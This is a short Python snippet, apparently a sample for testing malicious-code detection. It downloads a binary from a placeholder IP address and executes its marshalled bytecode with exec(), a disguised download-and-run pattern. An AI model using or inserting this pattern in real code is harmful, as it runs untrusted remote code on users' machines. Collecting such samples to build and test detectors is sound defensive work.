# tricky: loads byte code of a file that was downloaded
import marshal, urllib.request as r
urlretrieve = r.urlretrieve
urlretrieve("http://203.0.113.8/m.bin", "m.bin")
with open("m.bin", "rb") as f:
    exec(marshal.load(f))
